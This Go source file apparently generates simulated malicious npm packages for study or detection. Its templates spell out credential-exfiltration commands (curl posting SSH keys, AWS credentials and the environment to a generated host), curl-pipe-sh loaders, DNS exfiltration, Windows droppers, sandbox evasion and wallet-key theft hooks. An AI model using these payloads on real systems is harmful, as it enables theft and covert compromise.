package simulate

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"
)

// moment is when a payload runs.
type moment uint8

const (
	anywhere moment = iota
	atInstall
	atImport
)

// plan is a payload before it has a carrier.
type plan struct {
	decls   []string // declarations, in template form
	main    string   // statements that use them
	moment  moment
	browser bool
	// loose code may be wrapped in functions and delayed; other code must stand
	// at the top of its module.
	loose bool
	// data is a file that the code reads: DATA in a template stands for its
	// place, KEPT for the constant that it exports.
	data dataFile
	// bare plans have no code: only what finish does to the package.
	finish func(g *generator)
}

type dataFile struct {
	path    string
	content string
}

// kind is what a chain rests on; one chain of each is held out.
type kind uint8

const (
	byHook kind = iota
	byImport
	withoutScript
	inBrowser
	byBuild
)

type chain struct {
	number int
	kind   kind
	weight float64
	plan   func(g *generator) plan
}

// chains are those of the list of known chains, with rough weights: what runs at
// import sums up to about a quarter.
var chains = []chain{
	{1, byHook, 30, (*generator).hostLabel},
	{2, withoutScript, 13, (*generator).noScript},
	{3, byHook, 5, (*generator).dnsPieces},
	{4, byHook, 9, (*generator).gated},
	{5, byImport, 4, (*generator).ownSource},
	{6, byHook, 5, (*generator).dropper},
	{7, withoutScript, 7, (*generator).dependencyOnly},
	{8, byHook, 5, (*generator).loader},
	{9, byBuild, 3, (*generator).gitDependency},
	{10, byImport, 3, (*generator).manifestKey},
	{11, byImport, 2, (*generator).headerMarkers},
	{12, byImport, 3, (*generator).keyHeaders},
	{13, inBrowser, 3, (*generator).swapper},
	{14, inBrowser, 2, (*generator).formListener},
	{15, byImport, 3, (*generator).deepFile},
	{16, byBuild, 2, (*generator).nativeBuild},
	{17, byImport, 3, (*generator).bundleConstant},
}

// basic is the collection and sending that most chains end in.
func (g *generator) basic() plan {
	p := plan{loose: true, decls: []string{g.collected(), g.sent(g.destination())}}
	p.main = g.one(
		"$send("+g.shape("$collect()")+");\n",
		"const $info = $collect();\n$send("+g.shape("$info")+");\n",
		"const $info = $collect();\nconst $body = "+g.shape("$info")+";\n$send($body);\n",
		"if ($collect) {\n  $send("+g.shape("{ t: Date.now(), d: $collect() }")+");\n}\n",
		"[$collect()].map(($info) => "+g.shape("$info")+").forEach(($text) => $send($text));\n")
	if g.traits.fetch {
		p.decls = append(p.decls, g.fetched())
		p.main += "$load();\n"
	}
	if g.traits.evade {
		p.main = g.evasion() + p.main
		p.decls = append(p.decls, "function $guarded() {\n"+indent(p.main)+"}\n")
		p.main = "$guarded();\n"
	}
	return p
}

// fetched declares $load, which fetches and runs something.
func (g *generator) fetched() string {
	at := g.download(g.one(".js", ".txt", "", ".sh")).url()
	module := "#" + at[:strings.Index(at, ":")]
	return g.function("$load", "", g.one(
		module+".get(«"+at+"», ($res) => {\n  let $code = \"\";\n  $res.on(\"data\", ($part) => {\n    $code += $part;\n  });\n  $res.on(\"end\", () => {\n    "+g.one("eval($code)", "new Function(\"require\", $code)(require)", "#vm.runInThisContext($code)")+";\n  });\n}).on(\"error\", () => {});\n",
		"fetch(«"+at+"»).then(($res) => $res.text()).then(($code) => "+g.one("eval($code)", "Function($code)()")+").catch(() => {});\n",
		"#child_process.exec(«curl -s "+at+" | sh», { stdio: \"ignore\" }, () => {});\n",
		"#child_process.spawn(«sh», [«-c», «curl -fsSL "+at+" | bash»], { detached: true, stdio: \"ignore\" }).unref();\n"))
}

// hostLabel is chain 1: identity and environment in a host label and path.
func (g *generator) hostLabel() plan {
	if g.chance(0.55) {
		p := g.basic()
		p.moment = anywhere
		return p
	}
	g.traits.exfil = true
	at := g.placeOf(oast)
	identity := g.one(
		"#os.hostname() + \".\" + #os.userInfo().username",
		"[#os.hostname(), #os.platform(), #os.userInfo().username].join(\"-\")",
		"#os.hostname()",
		"#child_process.execSync(«whoami»).toString().trim() + \"-\" + #os.hostname()")
	label := g.one(
		"Buffer.from($identity).toString(\"hex\").slice(0, 62)",
		"$identity.replace(/[^a-z0-9]/gi, \"-\").toLowerCase()",
		"encodeURIComponent($identity)")
	env := g.one(
		"Buffer.from(JSON.stringify(process.env)).toString(\"base64\")",
		"Buffer.from(JSON.stringify(process.env)).toString(\"hex\").substring(0, 4000)",
		"encodeURIComponent(Object.keys(process.env).join(\",\"))",
		"#querystring.escape(JSON.stringify($collect()))")
	main := "const $identity = " + identity + ";\nconst $label = " + label + ";\nconst $body = " + env + ";\n"
	main += g.one(
		"#"+at.scheme+".get(\""+at.scheme+"://\" + $label + \".\" + «"+at.host+"» + \"/\" + $body, () => {}).on(\"error\", () => {});\n",
		"const $req = #"+at.scheme+".request({ hostname: $label + «."+at.host+"», path: \"/\" + $body, method: \"GET\" });\n$req.on(\"error\", () => {});\n$req.end();\n",
		"fetch(~"+at.scheme+"://${$label}."+at.host+"/${$body}~).catch(() => {});\n",
		"#child_process.exec(\"curl -s \" + $label + «."+at.host+"» + \"/\" + $body, () => {});\n",
		"#dns.lookup([$label, «"+at.host+"»].join(\".\"), () => {});\n#"+at.scheme+".get({ host: [$label, «"+at.host+"»].join(\".\"), path: \"/\" + $body }).on(\"error\", () => {});\n")
	p := plan{loose: true, main: main}
	if strings.Contains(main, "$collect()") {
		p.decls = append(p.decls, g.collected())
	}
	return p
}

// noScript is chain 2: the lifecycle script itself sends something.
func (g *generator) noScript() plan {
	return plan{moment: atInstall, finish: func(g *generator) { g.script(g.hook(), g.shellCommand()) }}
}

func (g *generator) shellCommand() string {
	at := g.destination()
	u := at.url()
	if g.chance(0.12) {
		at = g.download(".sh")
		return g.quiet(g.one("curl -s "+at.url()+" | sh", "wget -qO- "+at.url()+" | bash", "curl -fsSL "+at.url()+" -o /tmp/"+Marker+"/x && sh /tmp/"+Marker+"/x"))
	}
	file := g.one("/etc/hostname", "package.json", "$HOME/.npmrc", "~/.ssh/id_rsa", "/etc/passwd", "../../package.json", ".env", "$HOME/.aws/credentials", "/etc/hosts")
	what := g.one("$(whoami)", "$(hostname)", "$(id | base64 -w0)", "$(env | base64 | tr -d '\\n')", "$(pwd)", "$(hostname)-$(whoami)", "$(uname -a | base64)", "`hostname`", "$(ls -la | base64 -w0)")
	flags := g.one("-s", "-sk", "--silent", "-s -m 5", "-fsS", "")
	command := pick(g, []weighted[string]{
		{"curl " + flags + " -X POST -F file=@" + file + " " + u, 10},
		{"curl " + flags + " --data-binary @" + file + " " + u, 12},
		{"curl " + flags + " -d \"" + what + "\" " + u, 14},
		{"curl " + flags + " \"" + u + "?d=" + what + "\"", 12},
		{"wget -q --post-file=" + file + " " + u, 8},
		{"wget --quiet \"" + u + "?u=" + what + "\" -O /dev/null", 8},
		{"curl " + flags + " -H \"X-Host: " + what + "\" " + u, 5},
		{"env | curl " + flags + " -X POST --data-binary @- " + u, 8},
		{"(whoami; hostname; pwd; env) | base64 | curl " + flags + " -d @- " + u, 6},
		{"nslookup " + g.one("$(whoami)", "$(hostname)", "`whoami`") + "." + at.host, 5},
		{"ping -c 1 $(hostname)." + at.host, 3},
		{"tar czf - " + g.one("../../", "$HOME/.ssh", ".") + " | curl " + flags + " -T - " + u, 3},
		{"powershell -WindowStyle Hidden -Command \"Invoke-WebRequest -Uri " + u + "?u=$env:USERNAME -UseBasicParsing\"", 3},
		{"node -e \"require('https').get('https://" + at.host + "/?h='+require('os').hostname())\"", 3},
	})
	return g.quiet(strings.Join(strings.Fields(command), " "))
}

// quiet discards a command's output, or not.
func (g *generator) quiet(command string) string {
	return command + pick(g, []weighted[string]{{"", 40}, {" > /dev/null 2>&1", 24}, {" || true", 12}, {" >/dev/null 2>&1 || true", 8}, {" 2>/dev/null", 6}, {" > /dev/null 2>&1 &", 5}, {" &> /dev/null", 3}, {" || exit 0", 2}})
}

// dnsPieces is chain 3.
func (g *generator) dnsPieces() plan {
	g.traits.exfil = true
	at := g.placeOf(oast)
	size := 20 + g.IntN(42)
	decls := []string{g.collected()}
	text := g.one("Buffer.from(JSON.stringify($collect())).toString(\"hex\")", "Buffer.from(String($collect()), \"utf8\").toString(\"hex\")", "[...JSON.stringify($collect())].map(($c) => $c.charCodeAt(0).toString(16).padStart(2, \"0\")).join(\"\")")
	ask := g.one("#dns.lookup($name, () => {});\n", "#dns.resolve4($name, ($err) => {});\n", "#dns.resolve($name, \"TXT\", () => {});\n", "#child_process.exec(«nslookup » + $name, () => {});\n", "$resolver.resolve4($name, () => {});\n")
	prefix := ""
	if strings.Contains(ask, "$resolver") {
		prefix = "const $resolver = new #dns.Resolver();\n$resolver.setServers([«" + g.literal() + "»]);\n"
	}
	label := g.one("$part + \".\" + $i + \".\" + «"+at.host+"»", "[$i, $part, «"+at.host+"»].join(\".\")", "~${$i}-${$part}."+at.host+"~")
	main := prefix + "const $text = " + text + ";\n" + g.one(
		fmt.Sprintf("const $parts = $text.match(/.{1,%d}/g) || [];\n$parts.forEach(($part, $i) => {\n  const $name = %s;\n  %s});\n", size, label, ask),
		fmt.Sprintf("for (let $at = 0, $i = 0; $at < $text.length; $at += %d, $i++) {\n  const $part = $text.slice($at, $at + %d);\n  const $name = %s;\n  %s}\n", size, size, label, ask),
		fmt.Sprintf("const $parts = [];\nfor (let $k = 0; $k < $text.length; $k += %d) {\n  $parts.push($text.substr($k, %d));\n}\nfor (const [$i, $part] of $parts.entries()) {\n  setTimeout(() => {\n    const $name = %s;\n    %s  }, $i * %d);\n}\n", size, size, label, ask, 10+g.IntN(300)),
		fmt.Sprintf("const $walk = ($rest, $i) => {\n  if ($rest.length === 0) {\n    return;\n  }\n  const $part = $rest.slice(0, %d);\n  const $name = %s;\n  %s  $walk($rest.slice(%d), $i + 1);\n};\n$walk($text, 0);\n", size, label, ask, size))
	return plan{loose: true, decls: decls, main: main}
}

// gated is chain 4: environment sent after many checks, host joined from parts.
func (g *generator) gated() plan {
	at := g.destination()
	g.traits.exfil, g.traits.recon = true, g.chance(0.4)
	checks := some(g.dice, []string{
		"(process.env.npm_config_registry || \"\").includes(«mirror»)",
		"(process.env.npm_config_registry || \"\").indexOf(«artifactory») >= 0",
		"(process.env.npm_config_registry || \"\").includes(«verdaccio»)",
		"#os.hostname().startsWith(«DESKTOP-4E»)",
		"#os.hostname() === «BOX»",
		"#os.hostname().toLowerCase().includes(«sandbox»)",
		"#os.hostname() === «lili-pc»",
		"#os.hostname().indexOf(«aws-7grara») === 0",
		"#os.userInfo().username === «daasadmin»",
		"#os.userInfo().username === «analyst»",
		"[«researcher», «malware», «vagrant»].includes(#os.userInfo().username)",
		"#os.homedir() === «/home/node»",
		"#os.homedir().includes(«/justin»)",
		"process.cwd().startsWith(«/analysis»)",
		"process.cwd().includes(«mal_data»)",
		"Object.keys(process.env).length < 10",
		"process.env.SESSIONNAME === undefined && process.platform === \"win32\" && #os.cpus().length < 2",
		"process.env.PACKAGE_ANALYSIS !== undefined",
		"#fs.existsSync(«/.dockerenv»)",
		"#fs.existsSync(«/usr/bin/strace»)",
		"#os.totalmem() < 1e9",
		"/^(192\\.0\\.2)/.test(#os.hostname())",
	}, 7+g.IntN(9))
	var test string
	switch g.IntN(3) {
	case 0:
		test = g.function("$skip", "", "return [\n  "+strings.Join(checks, ",\n  ")+",\n].some(Boolean);\n")
	case 1:
		test = g.function("$skip", "", "return "+strings.Join(checks, " ||\n  ")+";\n")
	case 2:
		test = g.function("$skip", "", "if ("+strings.Join(checks, ") {\n  return true;\n}\nif (")+") {\n  return true;\n}\nreturn false;\n")
	}
	var parts []string
	for _, label := range strings.Split(at.host, ".") {
		parts = append(parts, "«"+label+"»")
	}
	joined := "[" + strings.Join(parts, ", ") + "].join(\".\")"
	send := strings.ReplaceAll(g.function("$send", "$body", g.one(
		"const $req = #"+at.scheme+".request({ hostname: HOST, path: «"+at.path+"», method: \"POST\" });\n$req.on(\"error\", () => {});\n$req.write($body);\n$req.end();\n",
		"const $host = HOST;\n#"+at.scheme+".get(\""+at.scheme+"://\" + $host + \"/\" + encodeURIComponent($body)).on(\"error\", () => {});\n",
		"fetch(\""+at.scheme+"://\" + HOST + «"+at.path+"», { method: \"POST\", body: $body }).catch(() => {});\n")), "HOST", joined)
	return plan{loose: true, decls: []string{g.collected(), test, send}, main: "if (!$skip()) {\n  $send(" + g.shape("$collect()") + ");\n}\n"}
}

// inner renders a plan as text that other code evaluates.
func (g *generator) inner(p plan) string {
	u := g.unit(false)
	saved, coded := g.style, g.encoding
	g.style.tight, g.style.comments, g.style.bare, g.encoding = true, false, false, plain
	g.style.imports = inlined
	text := u.expand(strings.Join(p.decls, "") + p.main)
	text = g.style.apply(u.header() + text)
	g.style, g.encoding = saved, coded
	g.inside = append(g.inside, text)
	return text
}

// evaluate gives statements that run the text in $code.
func (g *generator) evaluate() string {
	if g.browser {
		return g.one("eval($code);\n", "new Function($code)();\n", "(0, eval)($code);\n")
	}
	if g.esm {
		return g.one("eval($code);\n", "new Function(\"process\", $code)(process);\n", "#vm.runInThisContext($code);\n", "new #vm.Script($code).runInNewContext({ process });\n")
	}
	return g.one("eval($code);\n", "new Function(\"require\", $code)(require);\n", "#vm.runInThisContext(\"(function (require) {\" + $code + \"})\")(require);\n",
		"const $mod = new module.constructor();\n$mod.paths = module.paths;\n$mod._compile($code, \"\");\n", "(0, Function)(\"require\", \"module\", $code)(require, module);\n")
}

// ownSource is chain 5: strings from a function's source text, base64 damaged
// and repaired.
func (g *generator) ownSource() plan {
	good := base64.StdEncoding.EncodeToString([]byte(g.inner(g.basic())))
	hidden, repair := g.damage(good)
	var body strings.Builder
	pieces := 1 + g.IntN(4)
	size := (len(hidden) + pieces - 1) / pieces
	for i := 0; i < len(hidden); i += size {
		fmt.Fprintf(&body, "  $note(%s);\n", verbatim("@"+hidden[i:min(i+size, len(hidden))]+"@"))
	}
	holder := "function $holder($note) {\n" + body.String() + "}\n"
	main := g.one(
		"const $text = ($holder.toString().match(/@[^@]+@/g) || []).map(($m) => $m.slice(1, -1)).join(\"\");\n",
		"const $text = String($holder).split(\"@\").filter(($m, $i) => $i % 2 === 1).join(\"\");\n",
		"let $text = \"\";\nFunction.prototype.toString.call($holder).replace(/@([^@]+)@/g, ($all, $m) => {\n  $text += $m;\n  return $all;\n});\n")
	main += "const $code = Buffer.from($text" + repair + ", \"base64\").toString();\n" + g.evaluate()
	return plan{loose: true, moment: g.mostly(atImport), decls: []string{holder}, main: main}
}

// damage breaks base64 and gives the expression that repairs it.
func (g *generator) damage(s string) (text, repair string) {
	switch g.IntN(4) {
	case 0:
		bad := g.one("!", "%", "*", "-")
		c := g.one("A", "e", "I", "b")
		return strings.ReplaceAll(s, c, bad), ".split(\"" + bad + "\").join(\"" + c + "\")"
	case 1:
		return reverse(s), ".split(\"\").reverse().join(\"\")"
	case 2:
		junk := g.text(letters, 3+g.IntN(6))
		return junk + s, fmt.Sprintf(".slice(%d)", len(junk))
	}
	var b strings.Builder
	every := 3 + g.IntN(5)
	for i := range len(s) {
		if i%every == 0 {
			b.WriteByte('!')
		}
		b.WriteByte(s[i])
	}
	return b.String(), ".replace(/!/g, \"\")"
}

// mostly gives m, but one time in four leaves the moment open.
func (g *generator) mostly(m moment) moment {
	if g.chance(0.25) {
		return anywhere
	}
	return m
}

// confined declares $base, the folder that does not exist.
func (g *generator) confined() string {
	return "const $base = " + g.one("#path.join(#os.tmpdir(), "+quote(Marker)+")", "#path.join(process.cwd(), "+quote(Marker)+")", "#path.resolve("+quote(Marker)+")") + ";\n"
}

// dropper is chain 6: Windows only, a script that fetches a library and runs it;
// then the traces are removed. All files lie below Marker.
func (g *generator) dropper() plan {
	at := g.download(g.one(".dat", ".b64", ".txt", ".db", ".cert"))
	name := g.text(lower, 6)
	script, run := "", ""
	folder := "%TEMP%\\" + Marker + "\\"
	switch g.IntN(4) {
	case 0:
		script = "@echo off\r\ncurl -s -o \"" + folder + name + ".b64\" " + at.url() + "\r\ncertutil -decode \"" + folder + name + ".b64\" \"" + folder + name + ".dll\"\r\nrundll32 \"" + folder + name + ".dll\",Start\r\ndel \"" + folder + name + ".b64\"\r\n"
		name += ".bat"
		run = "#child_process." + g.one("exec(«cmd /c » + $file, { windowsHide: true }, () => {})", "spawn(«cmd.exe», [«/c», $file], { detached: true, stdio: \"ignore\", windowsHide: true }).unref()")
	case 1:
		script = "$p = Join-Path $env:TEMP '" + Marker + "\\" + name + ".dll'\r\n$d = (New-Object Net.WebClient).DownloadString('" + at.url() + "')\r\n[IO.File]::WriteAllBytes($p, [Convert]::FromBase64String($d))\r\nStart-Process rundll32 -ArgumentList \"$p,Main\" -WindowStyle Hidden\r\n"
		name += ".ps1"
		run = "#child_process." + g.one("exec(«powershell -ExecutionPolicy Bypass -WindowStyle Hidden -File » + $file, () => {})", "execSync(«powershell.exe -NoProfile -ep bypass -File » + $file, { stdio: \"ignore\" })")
	case 2:
		script = "Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"" + at.url() + "\", False\r\nx.Send\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"rundll32 \" & s.ExpandEnvironmentStrings(\"" + folder + name + ".dll\") & \",Run\", 0\r\n"
		name += ".vbs"
		run = "#child_process.exec(«wscript //B » + $file, { windowsHide: true }, () => {})"
	case 3:
		script = "@echo off\r\npowershell -Command \"(New-Object Net.WebClient).DownloadFile('" + at.url() + "','" + folder + name + ".exe')\"\r\nstart /b \"\" \"" + folder + name + ".exe\"\r\n"
		name += ".cmd"
		run = "#child_process.spawn(«cmd», [«/c», $file], { windowsHide: true, stdio: \"ignore\" })"
	}
	var write string
	if g.chance(0.6) {
		lines := strings.Split(strings.TrimSuffix(script, "\r\n"), "\r\n")
		for i := range lines {
			lines[i] = "  «" + lines[i] + "»,\n"
		}
		write = "const $lines = [\n" + strings.Join(lines, "") + "];\n#fs.writeFileSync($file, $lines.join(\"\\r\\n\"));\n"
	} else {
		write = "#fs.writeFileSync($file, Buffer.from(" + quote(base64.StdEncoding.EncodeToString([]byte(script))) + ", \"base64\"));\n"
	}
	main := g.confined() + "const $file = #path.join($base, «" + name + "»);\n" + write + run + ";\n"
	if g.chance(0.75) {
		main += g.one(
			"#fs.unlinkSync(#path.join($base, #path.basename("+g.self()+")));\n#fs.renameSync(#path.join($base, «package.md»), #path.join($base, «package.json»));\n",
			"#fs.rmSync(#path.join($base, «setup.js»), { force: true });\n#fs.copyFileSync(#path.join($base, «package_.json»), #path.join($base, «package.json»));\n",
			"setTimeout(() => {\n  #fs.unlink(#path.join($base, «install.js»), () => {});\n  #fs.writeFile(#path.join($base, «package.json»), JSON.stringify({ name: \"clean\", version: \"1.0.0\" }), () => {});\n}, 3000);\n")
	}
	gate := g.one("process.platform === \"win32\"", "#os.platform() === «win32»", "#os.type().indexOf(\"Windows\") === 0")
	return plan{loose: true, moment: atInstall, main: "if (" + gate + ") {\n" + indent(main) + "}\n"}
}

func (g *generator) self() string {
	if g.esm {
		return "process.argv[1]"
	}
	return g.one("__filename", "process.argv[1]")
}

// dependencyOnly is chain 7. The victim gains a dependency; without a base it is
// the dependency itself, a copy of a library with a setup script.
func (g *generator) dependencyOnly() plan {
	if !g.hasBase {
		p := g.basic()
		if g.chance(0.3) {
			p = g.dropper()
		}
		p.moment = atInstall
		return p
	}
	return plan{finish: func(g *generator) {
		name := g.one("plain", "easy", "simple", "node", "core", "fast", "light", "safe") + "-" + g.one("crypto", "hash", "dates", "config", "logger", "utils", "buffer", "parse") + "-" + g.one("js", "lib", "kit", "core") + "-" + g.text(lower, 7)
		field := g.one("dependencies", "dependencies", "dependencies", "optionalDependencies")
		g.manifest.put(field, name, g.one("^", "~", "")+fmt.Sprintf("%d.%d.%d", g.IntN(5), g.IntN(10), g.IntN(10)))
		g.carrier = "dependency"
		if g.chance(0.3) {
			g.importDependency(name)
		}
	}}
}

// gitDependency is chain 9. With a base: an optional dependency at a commit.
// Without: the repository's package, with its prepare script.
func (g *generator) gitDependency() plan {
	if !g.hasBase {
		p := g.basic()
		p.moment = atInstall
		g.fixedHook = "prepare"
		return p
	}
	return plan{finish: func(g *generator) {
		owner, repo, commit := g.text(lower, 8), g.one("setup", "init", "config", "helper")+"-"+g.text(lower, 4), g.text(hexes, 40)
		h := g.host("github.com")
		url := g.one(
			"git+https://"+h+"/"+owner+"/"+repo+".git#"+commit,
			"git://"+h+"/"+owner+"/"+repo+".git#"+commit,
			"git+ssh://git@"+h+"/"+owner+"/"+repo+".git#"+commit,
			"https://"+h+"/"+owner+"/"+repo+"/tarball/"+commit,
			"git+https://"+h+"/"+owner+"/"+repo+"#"+commit[:7])
		g.manifest.put(g.one("optionalDependencies", "optionalDependencies", "dependencies"), g.one("", "@"+owner+"/")+repo, url)
		g.carrier = "git-dependency"
	}}
}

// manifestKey is chain 10: the key comes from the consumer's manifest, the code
// from test data.
func (g *generator) manifestKey() plan {
	subject := g.one("A secure wallet for desktop", "Checkout for small shops", "Multi-signature vault", "Trading dashboard")
	key, iv := sha256.Sum256([]byte(subject)), g.bytes(16)
	data := encrypt([]byte(g.inner(g.basic())), key[:], iv)
	form := g.one("hex", "base64")
	text := hex.EncodeToString(append(iv, data...))
	if form == "base64" {
		text = base64.StdEncoding.EncodeToString(append(iv, data...))
	}
	content, read := text+"\n", "#fs.readFileSync(DATA, \"utf8\").trim()"
	path := g.one("test/", "tests/fixtures/", "test/data/", "spec/", "__tests__/fixtures/") + g.one("data", "sample", "vectors", "corpus", "input") + g.one(".txt", ".dat", ".hex", ".bin")
	if g.chance(0.4) {
		path = path[:strings.LastIndex(path, ".")] + ".json"
		content = "{\n  \"cases\": [\"lorem\", \"ipsum\"],\n  \"expected\": \"" + text + "\"\n}\n"
		read = "JSON.parse(#fs.readFileSync(DATA, \"utf8\")).expected"
	}
	subjectOf := g.one(
		"process.env.npm_package_description",
		"JSON.parse(#fs.readFileSync(#path.join(process.cwd(), \"package.json\"), \"utf8\")).description",
		"(process.env[«npm_package_description»] || \"\")")
	main := "const $key = #crypto.createHash(\"sha256\").update(String(" + subjectOf + ")).digest();\n" +
		"const $all = Buffer.from(" + read + ", \"" + form + "\");\n" +
		"const $cipher = #crypto.createDecipheriv(«aes-256-cbc», $key, $all.slice(0, 16));\n" +
		g.one("const $code = $cipher.update($all.slice(16), \"binary\", \"utf8\") + $cipher.final(\"utf8\");\n", "const $code = Buffer.concat([$cipher.update($all.slice(16)), $cipher.final()]).toString();\n") +
		g.evaluate()
	return plan{loose: true, moment: g.mostly(atImport), data: dataFile{path, content}, main: "try {\n" + indent(main) + "} catch ($err) {}\n"}
}

// headerMarkers is chain 11. The markers begin with a capital letter, and Node.js
// hands out header names in lower case, so nothing is ever collected.
func (g *generator) headerMarkers() plan {
	mark := g.one("X-Trace-", "X-Cf-", "X-Amz-Meta-", "Forwarded-Key-", "Cache-Tag-")
	decode := g.one(
		"for (const $key of Object.keys($headers)) {\n  if ($key.startsWith(«"+mark+"»)) {\n    $bytes.push(...Buffer.from($headers[$key], \"base64\"));\n  }\n}\n",
		"for (const $key in $headers) {\n  if ($key.indexOf(«"+mark+"») === 0) {\n    $bytes.push(parseInt($headers[$key], 16));\n  }\n}\n",
		"Object.entries($headers).filter(($pair) => $pair[0].slice(0, "+fmt.Sprint(len(mark))+") === «"+mark+"»).forEach(($pair) => {\n  for (const $part of $pair[1].split(\",\")) {\n    $bytes.push(Number($part));\n  }\n});\n")
	scan := "function $scan($headers) {\n  const $bytes = [];\n" + indent(decode) + "  if ($bytes.length < " + fmt.Sprint(4+g.IntN(20)) + ") {\n    return;\n  }\n  const $code = Buffer.from($bytes).toString(\"utf8\");\n" + indent(g.evaluate()) + "}\n"
	decls := []string{scan}
	var main string
	switch g.IntN(3) {
	case 0:
		main = "const $emit = #http.Server.prototype.emit;\n#http.Server.prototype.emit = function ($event, $req) {\n  if ($event === \"request\") {\n    try {\n      $scan($req.headers);\n    } catch ($err) {}\n  }\n  return $emit.apply(this, arguments);\n};\n"
	case 1:
		main = "const $create = #http.createServer;\nconst $later = ($handler) => function ($req, $res) {\n  $scan($req.headers || {});\n  return $handler.call(this, $req, $res);\n};\nprocess.on(\"newListener\", ($event, $handler) => {\n  if ($create && $event === \"request\") {\n    $later($handler);\n  }\n});\n"
	case 2:
		decls = append(decls, "function $middleware($req, $res, $next) {\n  setImmediate($scan, $req.headers);\n  $next();\n}\n")
		main = g.exported("inspect", "$middleware")
	}
	return plan{moment: atImport, decls: decls, main: main}
}

// exported makes a name a member of the module where that is possible anywhere.
func (g *generator) exported(name, value string) string {
	if g.esm {
		return "globalThis[Symbol.for(\"" + name + "\")] = " + value + ";\n"
	}
	return "module.exports." + name + " = " + value + ";\n"
}

// keyHeaders is chain 12: key material leaves in headers like a CDN's.
func (g *generator) keyHeaders() plan {
	at := g.placeOf(own)
	header := g.one("x-amz-cf-id", "cf-ray", "x-cache-key", "x-served-by", "x-edge-request-id", "akamai-grn")
	send := g.function("$send", "$value", g.one(
		"fetch(«"+at.url()+"», { headers: { «HDR»: $value } }).catch(() => {});\n",
		"#https.request(«"+at.url()+"», { method: \"HEAD\", headers: { «HDR»: Buffer.from($value).toString(\"base64\"), \"x-cache\": \"Hit\" } }).on(\"error\", () => {}).end();\n",
		"const $headers = new Headers();\n$headers.set(«HDR», $value);\n$headers.set(\"via\", \"1.1 edge\");\nfetch(«"+at.url()+"», { method: \"POST\", headers: $headers }).catch(() => {});\n"))
	send = strings.ReplaceAll(send, "{ «HDR»:", "{ [«HDR»]:")
	send = strings.ReplaceAll(send, "HDR", header)
	decls := []string{send}
	material := g.one("fromSecretKey", "fromSeed", "fromMnemonic", "fromPrivateKey", "importKey")
	var main string
	switch g.IntN(3) {
	case 0:
		decls = append(decls, "class $pair {\n  constructor($secret) {\n    this.secret = $secret;\n    $send(String($secret));\n  }\n  static "+material+"($secret) {\n    return new $pair($secret);\n  }\n  sign($message) {\n    return #crypto.createHmac(\"sha256\", this.secret).update($message).digest(\"hex\");\n  }\n}\n")
		main = g.exported("Keypair", "$pair")
	case 1:
		decls = append(decls, "function $make($secret) {\n  const $bytes = typeof $secret === \"string\" ? Buffer.from($secret, \"hex\") : $secret;\n  $queue.push($bytes.toString(\"hex\"));\n  setTimeout(() => $queue.splice(0).forEach(($value) => $send($value)), 500);\n  return $bytes;\n}\n")
		main = "const $queue = [];\n" + g.exported(material, "$make")
	case 2:
		target := "module.exports"
		if g.esm {
			target = "globalThis"
		}
		main = "const $target = " + target + ";\nfor (const $key of Object.keys($target)) {\n  if (/key|seed|secret|mnemonic|wallet/i.test($key) && typeof $target[$key] === \"function\") {\n    const $inner = $target[$key];\n    $target[$key] = function ($value) {\n      $send(String($value));\n      return $inner.apply(this, arguments);\n    };\n  }\n}\n"
	}
	return plan{moment: atImport, decls: decls, main: main}
}
